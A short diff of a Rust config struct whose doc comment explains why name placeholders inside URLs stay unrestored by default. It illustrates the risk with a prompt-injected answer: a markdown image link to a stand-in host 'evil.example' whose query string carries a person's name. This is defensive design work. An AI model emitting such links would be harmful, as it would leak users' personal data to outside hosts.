@@ -166,7 +166,7 @@ pub struct DepartmentConfig {
     pub allow_content: Vec<String>,
     /// Restore placeholders inside URLs of the answer too (link and image targets,
     /// autolinks, bare URLs, URL attributes of HTML tags). Default false: a
-    /// prompt-injected answer such as `![x](https://evil.example/?n=〔氏名1〕)` keeps the
+    /// prompt-injected answer such as `![x](https://evil.example/?n=〔氏名-K7Q2MX〕)` keeps the
     /// placeholder, so the client's renderer cannot send the real name away; only
     /// placeholders in the prose are restored.
     pub restore_in_urls: bool,
